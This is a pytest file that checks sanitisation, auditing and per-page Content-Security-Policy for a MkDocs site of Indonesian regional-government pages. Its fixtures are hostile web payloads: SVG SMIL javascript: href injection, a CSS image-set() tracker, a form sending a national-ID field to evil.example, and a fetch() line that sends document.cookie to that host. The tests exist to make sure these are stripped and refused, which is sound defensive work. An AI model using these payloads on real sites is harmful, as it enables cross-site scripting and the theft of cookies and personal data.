"""The Dinas' own pages and the policy every page carries (issue 14).

halaman/*.md is Markdown the Dinas writes and MkDocs renders; raw HTML passes Python-Markdown, so
SVG SMIL and CSS image-set() reached the site and passed the audit. And GitHub Pages ignores
`_headers`: the policy must be in every page as well, built from the theme's known scripts only.
"""

from __future__ import annotations

import inspect
import re
import shutil
from pathlib import Path

import pytest

from generator.outputs.audit import audit_site, theme_inline_scripts
from generator.outputs.publish import InlineCode, csp_hash
from tests.conftest import MATERIAL_TEMPLATES, ROOT, SAMPLE_SITE_URL, dump_entry, inject, run_build

SITE_URL = SAMPLE_SITE_URL

ATTACK = """---
title: Pengumuman
---

# Pengumuman

<svg width="200" height="40"><a href="#aman"><animate attributeName="href" values="javascript:alert(document.domain)"/><set attributeName="xlink:href" to="javascript:alert(2)"/><text x="0" y="20">Klik di sini</text></a></svg>

<div style="background-image: image-set('https://evil.example/pelacak.png' 1x)">Promo</div>

<p>Teks biasa dengan <a href="tentang/">tautan dalam situs</a> dan <a href="https://bekasikab.go.id/">situs Pemda</a>.</p>

Tautan Markdown ke [halaman tentang](tentang.md).

<form action="https://evil.example/curi"><input name="nik"></form>
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("halaman")
    for name in ("mkdocs.yml", "wilayah.yml"):
        shutil.copy(ROOT / name, project / name)
    for folder in ("theme", "halaman"):
        shutil.copytree(ROOT / folder, project / folder)
    (project / "halaman" / "pengumuman.md").write_text(ATTACK, encoding="utf-8")
    entry = project / "catalog" / "telaga-batik"
    entry.mkdir(parents=True)
    meta = {"nama": "Telaga Batik", "sektor": "fesyen", "kecamatan": "Cibitung", "ringkasan": "Batik tulis."}
    (entry / "index.md").write_text(dump_entry(meta, "Cerita.\n"), encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 0, result.stderr
    return project / "site"


def test_a_dinas_page_is_sanitized_with_the_story_allow_list(built: Path) -> None:
    page = (built / "pengumuman" / "index.html").read_text(encoding="utf-8")
    body = page.split('<article class="md-content__inner', 1)[1].split("</article>", 1)[0]
    for gone in ("<svg", "<animate", "<set", "javascript:", "evil.example", "image-set", "<form", "<input"):
        assert gone not in body, gone
    assert "Promo" in body  # the text stays, the active parts (and the SVG drawing) go
    # Links stay: a Markdown link as MkDocs resolves it, raw HTML as written; the Dinas' own, so no nofollow.
    assert '<a href="../tentang/" rel="noopener">halaman tentang</a>' in body
    assert '<a href="tentang/" rel="noopener">tautan dalam situs</a>' in body
    assert '<a href="https://bekasikab.go.id/" rel="noopener">situs Pemda</a>' in body
    assert '<h1 id="pengumuman">Pengumuman</h1>' in body


def test_the_audit_refuses_smil_on_href_and_image_set_to_another_host(built: Path, tmp_path: Path) -> None:
    site = Path(shutil.copytree(built, tmp_path / "site"))
    uri = "tentang/index.html"
    smil = inject(site, uri, '<svg><a href="#x"><animate attributeName="href" values="javascript:alert(1)"/></a></svg>')
    css = inject(site, uri, "<div style=\"background: image-set('https://evil.example/x.png' 1x)\">x</div>")
    found = {(p.line, p.field, p.message) for p in audit_site(site, site_url=SITE_URL, inline_scripts=theme_inline_scripts([MATERIAL_TEMPLATES]))}
    assert (smil, "<animate>", "animasi SVG <animate> yang mengubah alamat tautan tidak diizinkan (SMIL on href)") in found
    assert any(line == css and "evil.example" in message for line, _, message in found), found


def _policy(headers: str) -> str:
    return next(line.split(": ", 1)[1] for line in headers.splitlines() if "Content-Security-Policy" in line)


def test_every_page_carries_the_policy_in_a_meta_element(built: Path) -> None:
    """GitHub Pages ignores _headers: the <meta> policy is what protects the default deploy. It has
    every directive of the header policy but frame-ancestors, with the hashes of the page's own
    inline code only (so a page does not grow with the catalog)."""
    header = _policy((built / "_headers").read_text(encoding="utf-8"))
    assert "frame-ancestors 'none'" in header
    directives = {d.split(" ", 1)[0]: d for d in header.split("; ")}
    known = theme_inline_scripts([MATERIAL_TEMPLATES])
    pages = sorted(built.rglob("*.html"))
    assert len(pages) > 10
    seen = set()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        assert len(metas) == 1, page
        meta = {d.split(" ", 1)[0]: d for d in metas[0].replace("&#x27;", "'").split("; ")}
        assert set(meta) == set(directives) - {"frame-ancestors"}, page
        own = InlineCode()
        own.add_page(text.replace(metas[0], ""), known)
        for name, hashes in (("script-src", own.scripts), ("style-src", own.styles)):
            allowed = set(meta[name].split(" ")[1:])
            assert allowed - {"'self'", "'wasm-unsafe-eval'"} == hashes, (page, name)
            assert allowed <= set(directives[name].split(" ")[1:]), (page, name)  # within the header policy
        for name in set(meta) - {"script-src", "style-src", "form-action"}:
            assert meta[name] == directives[name], (page, name)
        seen.add(meta["script-src"])
        head = text.split("<head>", 1)[1]
        assert head.index("Content-Security-Policy") < head.index("<script") if "<script" in head else True, page
    assert len(seen) > 1  # pages at other depths run other inline code


def test_the_policy_allows_the_theme_scripts_only_not_what_the_output_holds() -> None:
    known = theme_inline_scripts([MATERIAL_TEMPLATES])
    code = InlineCode()
    code.add_page("<script>fetch('https://evil.example/?'+document.cookie)</script>", known)
    assert code.scripts == set()  # found in a page, unknown: not allowed (the audit reports it)
    template_script = re.search(r"<script>(.*?)</script>", (MATERIAL_TEMPLATES / "partials/javascripts/base.html").read_text(), re.S)
    assert template_script is not None
    simple = template_script.group(1)
    if "{{" not in simple:
        code.add_page(f"<script>{simple}</script>", known)
        assert code.scripts == {csp_hash(simple)}


def test_no_cache_can_vouch_for_a_file_the_audit_reads(built: Path) -> None:
    """A restored .cache/umkm/audit.json once listed files as audited clean, so a poisoned page
    in a CI cache could skip the audit (issue 14). The audit keeps no verdicts: every build reads
    every file of the site, and nothing in the cache folder speaks for one."""
    cache = built.parent / ".cache"
    assert cache.is_dir()  # the build did keep its caches (entries, photos, stories)
    assert not [p for p in cache.rglob("*") if "audit" in p.name.lower()]
    assert not {"cache", "cache_file", "cache_dir"} & set(inspect.signature(audit_site).parameters)
